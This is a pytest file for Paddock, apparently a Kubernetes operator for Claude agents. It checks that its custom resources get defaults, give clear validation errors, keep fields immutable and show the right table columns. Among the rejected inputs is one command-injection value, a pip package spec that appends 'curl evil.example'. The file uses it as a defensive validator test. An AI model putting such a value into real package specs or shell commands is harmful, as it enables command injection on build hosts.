"""The CRDs in a real kube-apiserver: defaults, validation messages, status, table output."""

from __future__ import annotations

import itertools
from typing import Any

import httpx
import pytest

from paddock.models import Agent, Environment, Session
from paddock.testing.controlplane import ControlPlane

_names = itertools.count()
PLURALS = {"Agent": "agents", "Environment": "environments", "Session": "sessions"}
TABLE = "application/json;as=Table;v=v1;g=meta.k8s.io"
MERGE = {"Content-Type": "application/merge-patch+json"}


class Api:
    """Create, read and patch Paddock objects in the `default` namespace."""

    def __init__(self, plane: ControlPlane) -> None:
        self.http = plane.client()

    def path(self, kind: str, name: str = "") -> str:
        base = f"/apis/paddock.dev/v1alpha1/namespaces/default/{PLURALS[kind]}"
        return f"{base}/{name}" if name else base

    def create(self, kind: str, spec: dict[str, Any] | None, **meta: Any) -> httpx.Response:
        body: dict[str, Any] = {
            "apiVersion": "paddock.dev/v1alpha1",
            "kind": kind,
            "metadata": {"name": f"{kind.lower()}-{next(_names)}", **meta},
        }
        if spec is not None:
            body["spec"] = spec
        # kubectl validates fields strictly by default; so do these tests.
        return self.http.post(self.path(kind), json=body, params={"fieldValidation": "Strict"})

    def created(self, kind: str, spec: dict[str, Any] | None) -> dict[str, Any]:
        response = self.create(kind, spec)
        assert response.status_code == 201, response.text
        return response.json()

    def patch(
        self, kind: str, name: str, patch: dict[str, Any], status: bool = False
    ) -> httpx.Response:
        return self.http.patch(
            self.path(kind, name) + ("/status" if status else ""), json=patch, headers=MERGE
        )


@pytest.fixture(scope="module")
def api(control_plane: ControlPlane) -> Api:
    return Api(control_plane)


def agent_spec(**overrides: Any) -> dict[str, Any]:
    return {
        "model": "claude-sonnet-4-6",
        "credentials": {"anthropicApiKey": {"name": "anthropic", "key": "api-key"}},
        **overrides,
    }


def session_spec(**overrides: Any) -> dict[str, Any]:
    return {"agentRef": {"name": "hello"}, **overrides}


def test_agent_round_trips_with_defaults_applied(api: Api) -> None:
    stored = api.created("Agent", agent_spec())
    spec = stored["spec"]
    assert spec["tools"]["builtin"] == {
        "enabled": True,
        "permissionPolicy": "always_allow",
        "configs": [],
    }
    assert spec["harness"] == {"replicas": 1, "concurrency": 16}
    assert spec["limits"]["maxTurns"] == 100
    assert spec["limits"]["modelTimeout"] == "10m"
    assert Agent.model_validate(stored).spec.model == "claude-sonnet-4-6"


def test_environment_without_spec_gets_a_safe_default(api: Api) -> None:
    stored = api.created("Environment", None)
    spec = stored["spec"]
    assert spec["networking"] == {
        "mode": "none",
        "allowPackageManagers": False,
        "allowedDomains": [],
    }
    assert spec["resources"]["limits"] == {"cpu": "1", "memory": "1Gi"}
    assert spec["warmPool"] == {"size": 1}
    assert spec["idleTimeout"] == "15m"
    assert Environment.model_validate(stored).spec.working_dir == "/workspace"


def test_session_round_trips_with_defaults_applied(api: Api) -> None:
    task = {"type": "user.message", "content": [{"type": "text", "text": "hi"}]}
    stored = api.created("Session", session_spec(initialEvents=[{"content": [{"text": "hi"}]}]))
    assert stored["spec"]["initialEvents"] == [task]
    assert stored["spec"]["cancel"] is False
    assert Session.model_validate(stored).spec.agent_ref.name == "hello"


INVALID: list[tuple[str, str, dict[str, Any] | None, str]] = [
    (
        "missing model",
        "Agent",
        {"credentials": {"anthropicApiKey": {"name": "a", "key": "k"}}},
        "spec.model: Required value",
    ),
    (
        "missing credentials",
        "Agent",
        {"model": "claude-sonnet-4-6"},
        "spec.credentials: Required value",
    ),
    (
        "unknown permission policy",
        "Agent",
        agent_spec(tools={"builtin": {"permissionPolicy": "sometimes"}}),
        'spec.tools.builtin.permissionPolicy: Unsupported value: "sometimes": '
        'supported values: "always_allow", "always_ask"',
    ),
    (
        "unknown built-in tool",
        "Agent",
        agent_spec(tools={"builtin": {"configs": [{"name": "rm"}]}}),
        'spec.tools.builtin.configs[0].name: Unsupported value: "rm"',
    ),
    (
        "too many harness replicas",
        "Agent",
        agent_spec(harness={"replicas": 1000}),
        "spec.harness.replicas: Invalid value: 1000: spec.harness.replicas in body should be less than "
        "or equal to 100",
    ),
    (
        "custom tool shadowing a built-in",
        "Agent",
        agent_spec(
            tools={
                "custom": [{"name": "bash", "description": "x", "inputSchema": {"type": "object"}}]
            }
        ),
        "custom tool names must differ from the built-in tools",
    ),
    (
        "a tool Paddock lacks, not disabled",
        "Agent",
        agent_spec(tools={"builtin": {"configs": [{"name": "web_search"}]}}),
        "Paddock has no web_fetch or web_search tool: such an entry must set enabled: false",
    ),
    (
        "custom tool input that is not an object",
        "Agent",
        agent_spec(
            tools={
                "custom": [
                    {"name": "lookup", "description": "x", "inputSchema": {"type": "string"}}
                ]
            }
        ),
        'spec.tools.custom[0].inputSchema.type: Unsupported value: "string": supported values: "object"',
    ),
    (
        "duplicate custom tools",
        "Agent",
        agent_spec(
            tools={
                "custom": [{"name": "t", "description": "x", "inputSchema": {"type": "object"}}] * 2
            }
        ),
        'spec.tools.custom[1]: Duplicate value: {"name":"t"}',
    ),
    (
        "MCP toolset without its server",
        "Agent",
        agent_spec(tools={"mcp": [{"serverName": "docs"}]}),
        "every tools.mcp[].serverName must name an entry of mcpServers",
    ),
    ("unknown field", "Agent", agent_spec(modle="claude"), 'unknown field "spec.modle"'),
    (
        "secret name that is not a Kubernetes name",
        "Agent",
        agent_spec(credentials={"anthropicApiKey": {"name": "My_Secret", "key": "k"}}),
        'spec.credentials.anthropicApiKey.name: Invalid value: "My_Secret"',
    ),
    (
        "negative token budget",
        "Session",
        session_spec(budget={"maxTokens": -5}),
        "spec.budget.maxTokens: Invalid value: -5: spec.budget.maxTokens in body should be greater than "
        "or equal to 1",
    ),
    (
        "negative cost budget",
        "Session",
        session_spec(budget={"maxListCost": {"amount": "-100"}}),
        'spec.budget.maxListCost.amount: Invalid value: "-100": spec.budget.maxListCost.amount in body '
        "should match '^[0-9]{1,12}$'",
    ),
    (
        "bad duration",
        "Session",
        session_spec(ttl="tomorrow"),
        'spec.ttl: Invalid value: "tomorrow": spec.ttl in body should match',
    ),
    ("missing agentRef", "Session", {"title": "x"}, "spec.agentRef: Required value"),
    (
        "branch and commit together",
        "Session",
        session_spec(
            resources=[
                {
                    "gitRepository": {
                        "url": "https://git.example/r.git",
                        "branch": "main",
                        "commit": "abcdef1",
                    }
                }
            ]
        ),
        "branch and commit are mutually exclusive",
    ),
    (
        "repository and file in one resource",
        "Session",
        session_spec(
            resources=[
                {
                    "gitRepository": {"url": "https://git.example/r.git"},
                    "file": {"path": "/a", "content": "b"},
                }
            ]
        ),
        "exactly one of gitRepository or file must be set",
    ),
    (
        "repository URL with credentials",
        "Session",
        session_spec(
            resources=[{"gitRepository": {"url": "https://user:token@git.example/r.git"}}]
        ),
        "spec.resources[0].gitRepository.url: Invalid value",
    ),
    (
        "empty task message",
        "Session",
        session_spec(initialEvents=[{"content": []}]),
        "spec.initialEvents[0].content: Invalid value: 0: spec.initialEvents[0].content in body should "
        "have at least 1 items",
    ),
    (
        "allowedDomains without limited networking",
        "Environment",
        {"networking": {"mode": "none", "allowedDomains": ["pypi.org"]}},
        "allowedDomains may only be set when mode is 'limited'",
    ),
    (
        "unknown networking mode",
        "Environment",
        {"networking": {"mode": "internet"}},
        'spec.networking.mode: Unsupported value: "internet": supported values: "none", "limited", "open"',
    ),
    (
        "negative warm pool",
        "Environment",
        {"warmPool": {"size": -1}},
        "spec.warmPool.size: Invalid value: -1: spec.warmPool.size in body should be greater than or "
        "equal to 0",
    ),
    (
        "bad resource quantity",
        "Environment",
        {"resources": {"limits": {"memory": "lots"}}},
        'spec.resources.limits.memory: Invalid value: "lots"',
    ),
    (
        "negative memory request",
        "Environment",
        {"resources": {"requests": {"memory": "-1Gi"}}},
        'spec.resources.requests.memory: Invalid value: "-1Gi"',
    ),
    (
        "negative cpu limit",
        "Environment",
        {"resources": {"limits": {"cpu": -1}}},
        "spec.resources.limits.cpu: Invalid value: -1",
    ),
    (
        "negative harness request",
        "Agent",
        agent_spec(harness={"resources": {"requests": {"cpu": "-250m"}}}),
        'spec.harness.resources.requests.cpu: Invalid value: "-250m"',
    ),
    (
        "agent version 0",
        "Session",
        session_spec(agentRef={"name": "hello", "version": 0}),
        "spec.agentRef.version: Invalid value: 0",
    ),
    (
        "history limit 0",
        "Agent",
        agent_spec(revisionHistoryLimit=0),
        "spec.revisionHistoryLimit: Invalid value: 0",
    ),
    (
        "agent in another namespace",
        "Session",
        session_spec(agentRef={"name": "hello", "namespace": "other"}),
        "spec.agentRef.namespace: Invalid value",
    ),
    (
        "environment in another namespace",
        "Session",
        session_spec(environmentRef={"name": "python", "namespace": "other"}),
        "references name objects of the same namespace",
    ),
    (
        "model that is not Claude's",
        "Agent",
        agent_spec(model="gpt-4o"),
        'spec.model: Invalid value: "gpt-4o"',
    ),
    (
        "model id with upper case",
        "Agent",
        agent_spec(model="Claude-Sonnet-4-6"),
        "spec.model: Invalid value",
    ),
    ("zero max turns", "Agent", agent_spec(limits={"maxTurns": 0}), "spec.limits.maxTurns"),
    (
        "max tokens above the API's",
        "Agent",
        agent_spec(limits={"maxTokens": 2_000_000}),
        "spec.limits.maxTokens",
    ),
    (
        "cost budget that is not a number",
        "Agent",
        agent_spec(limits={"maxListCost": {"amount": "ten"}}),
        "spec.limits.maxListCost.amount",
    ),
    (
        "cost budget in another currency",
        "Agent",
        agent_spec(limits={"maxListCost": {"amount": "10", "currency": "EUR"}}),
        "spec.limits.maxListCost.currency",
    ),
    ("zero concurrency", "Agent", agent_spec(harness={"concurrency": 0}), "concurrency"),
    (
        "harness image with a space",
        "Agent",
        agent_spec(harness={"image": "paddock/paddock 0.1.0"}),
        "spec.harness.image",
    ),
    (
        "MCP server URL that is not HTTP",
        "Agent",
        agent_spec(mcpServers=[{"name": "s", "url": "ftp://mcp.example"}]),
        "spec.mcpServers[0].url",
    ),
    (
        "duplicate MCP servers",
        "Agent",
        agent_spec(
            mcpServers=[
                {"name": "s", "url": "https://a.example"},
                {"name": "s", "url": "https://b.example"},
            ]
        ),
        "Duplicate value",
    ),
    (
        "credential host that is not a hostname",
        "Agent",
        agent_spec(
            credentials={
                "anthropicApiKey": {"name": "a", "key": "k"},
                "hosts": [{"host": "https://github.com", "secretRef": {"name": "g", "key": "t"}}],
            }
        ),
        "spec.credentials.hosts[0].host",
    ),
    (
        "unknown credential scheme",
        "Agent",
        agent_spec(
            credentials={
                "anthropicApiKey": {"name": "a", "key": "k"},
                "hosts": [
                    {"host": "github.com", "secretRef": {"name": "g", "key": "t"}, "scheme": "x"}
                ],
            }
        ),
        "spec.credentials.hosts[0].scheme",
    ),
    (
        "secret key with a slash",
        "Agent",
        agent_spec(credentials={"anthropicApiKey": {"name": "a", "key": "../k"}}),
        "spec.credentials.anthropicApiKey.key",
    ),
    (
        "unknown harness resource",
        "Agent",
        agent_spec(harness={"resources": {"limits": {"gpu": 1}}}),
        "limits: a resource is cpu, memory",
    ),
    (
        "sandbox request above its limit",
        "Environment",
        {"resources": {"requests": {"memory": "2Gi"}, "limits": {"memory": "1Gi"}}},
        "a request must not exceed the limit of the same resource",
    ),
    (
        "sandbox cpu request above its limit, as a number",
        "Environment",
        {"resources": {"requests": {"cpu": 2}, "limits": {"cpu": "500m"}}},
        "a request must not exceed the limit of the same resource",
    ),
    (
        "unknown sandbox resource",
        "Environment",
        {"resources": {"requests": {"disk": "1Gi"}}},
        "requests: a resource is cpu, memory",
    ),
    (
        "sandbox image with a space",
        "Environment",
        {"image": "python 3.12"},
        "spec.image",
    ),
    (
        "runtime class that is not a Kubernetes name",
        "Environment",
        {"runtimeClassName": "gVisor"},
        "spec.runtimeClassName",
    ),
    ("relative working directory", "Environment", {"workingDir": "work"}, "spec.workingDir"),
    (
        "package spec with a shell metacharacter",
        "Environment",
        {"packages": {"pip": ["pandas; curl evil.example"]}},
        "spec.packages.pip[0]",
    ),
    (
        "allowed domain that is not a hostname",
        "Environment",
        {"networking": {"mode": "limited", "allowedDomains": ["http://pypi.example"]}},
        "spec.networking.allowedDomains[0]",
    ),
    ("warm pool above 100", "Environment", {"warmPool": {"size": 101}}, "spec.warmPool.size"),
    ("bad idle timeout", "Environment", {"idleTimeout": "15 minutes"}, "spec.idleTimeout"),
    ("bad session ttl", "Session", session_spec(ttl="1d"), "spec.ttl"),
    (
        "zero token budget for a session",
        "Session",
        session_spec(budget={"maxTokens": 0}),
        "spec.budget.maxTokens",
    ),
    (
        "repository over plain HTTP",
        "Session",
        session_spec(resources=[{"gitRepository": {"url": "http://github.com/a/b"}}]),
        "spec.resources[0].gitRepository.url",
    ),
    (
        "commit that is not a hash",
        "Session",
        session_spec(
            resources=[{"gitRepository": {"url": "https://github.com/a/b", "commit": "main"}}]
        ),
        "spec.resources[0].gitRepository.commit",
    ),
    (
        "file at a relative path",
        "Session",
        session_spec(resources=[{"file": {"path": "notes.md", "content": "x"}}]),
        "spec.resources[0].file.path",
    ),
    (
        "agent name that is not a Kubernetes name",
        "Session",
        session_spec(agentRef={"name": "Hello_World"}),
        "spec.agentRef.name",
    ),
    (
        "default environment in another namespace",
        "Agent",
        agent_spec(environmentRef={"name": "python", "namespace": "other"}),
        "references name objects of the same namespace",
    ),
]


@pytest.mark.parametrize(
    ("kind", "spec", "message"), [c[1:] for c in INVALID], ids=[c[0] for c in INVALID]
)
def test_invalid_objects_are_rejected_with_a_clear_message(
    api: Api, kind: str, spec: Any, message: str
) -> None:
    response = api.create(kind, spec)
    assert response.status_code in (400, 422), response.text
    assert message in response.json()["message"]


def test_a_reference_to_another_namespace_is_refused_even_without_strict_fields(
    api: Api,
) -> None:
    """Clients that do not ask for strict field validation (Argo CD, most SDKs) would have the
    field pruned, and the Session would run the same-named Agent of its own namespace."""
    body = {
        "apiVersion": "paddock.dev/v1alpha1",
        "kind": "Session",
        "metadata": {"name": f"session-{next(_names)}"},
        "spec": session_spec(agentRef={"name": "hello", "namespace": "other"}),
    }
    response = api.http.post(api.path("Session"), json=body)
    assert response.status_code == 422, response.text
    assert "references name objects of the same namespace" in response.json()["message"]


@pytest.mark.parametrize(
    ("field", "change", "message"),
    [
        ("agentRef", {"agentRef": {"name": "other"}}, "agentRef is immutable"),
        # A session runs the version it was created with (docs/api-design.md).
        (
            "agentRef.version",
            {"agentRef": {"name": "hello", "version": 2}},
            "agentRef is immutable",
        ),
        ("environmentRef", {"environmentRef": {"name": "gpu"}}, "environmentRef is immutable"),
        ("cancel", {"cancel": False}, "cancel cannot be undone"),
    ],
)
def test_session_fields_that_cannot_change(
    api: Api, field: str, change: dict, message: str
) -> None:
    name = api.created("Session", session_spec(cancel=True))["metadata"]["name"]
    response = api.patch("Session", name, {"spec": change})
    assert response.status_code == 422, response.text
    assert message in response.json()["message"]
    # What may change still can.
    assert api.patch("Session", name, {"spec": {"title": "renamed"}}).status_code == 200


def test_status_is_a_subresource(api: Api) -> None:
    name = api.created("Session", session_spec())["metadata"]["name"]
    # Writes through the main resource ignore status ...
    api.patch("Session", name, {"status": {"phase": "Running"}})
    assert "status" not in api.http.get(api.path("Session", name)).json()
    # ... and writes through /status ignore spec.
    response = api.patch(
        "Session", name, {"status": {"phase": "Idle"}, "spec": {"title": "x"}}, status=True
    )
    assert response.status_code == 200, response.text
    stored = response.json()
    assert stored["status"]["phase"] == "Idle"
    assert "title" not in stored["spec"]
    invalid = api.patch("Session", name, {"status": {"phase": "Sleeping"}}, status=True)
    assert invalid.status_code == 422
    assert 'status.phase: Unsupported value: "Sleeping"' in invalid.json()["message"]


def _table(api: Api, kind: str, name: str) -> dict[str, Any]:
    table = api.http.get(
        api.path(kind), headers={"Accept": TABLE}, params={"fieldSelector": f"metadata.name={name}"}
    ).json()
    columns = [c["name"] for c in table["columnDefinitions"]]
    (row,) = table["rows"]
    return dict(zip(columns, row["cells"], strict=True))


def test_printer_columns_show_what_a_session_is_doing(api: Api) -> None:
    name = api.created("Session", session_spec())["metadata"]["name"]
    api.patch(
        "Session",
        name,
        {
            "status": {
                "phase": "Idle",
                "stopReason": "end_turn",
                "eventCount": 12,
                "sessionId": "sesn_01abc",
            }
        },
        status=True,
    )
    row = _table(api, "Session", name)
    assert row["Agent"] == "hello"
    assert row["Phase"] == "Idle"
    assert row["Stop Reason"] == "end_turn"
    assert row["Events"] == 12
    assert row["Session ID"] == "sesn_01abc"
    assert row["Age"]


def test_printer_columns_show_whether_an_agent_is_ready(api: Api) -> None:
    name = api.created("Agent", agent_spec())["metadata"]["name"]
    condition = {
        "type": "Ready",
        "status": "False",
        "reason": "SecretNotFound",
        "message": "Secret default/anthropic not found",
        "lastTransitionTime": "2026-01-01T00:00:00Z",
    }
    response = api.patch(
        "Agent",
        name,
        {"status": {"conditions": [condition], "readyReplicas": 0, "activeSessions": 3}},
        status=True,
    )
    assert response.status_code == 200, response.text
    row = _table(api, "Agent", name)
    assert (row["Model"], row["Ready"], row["Workers"], row["Active"]) == (
        "claude-sonnet-4-6",
        "False",
        0,
        3,
    )
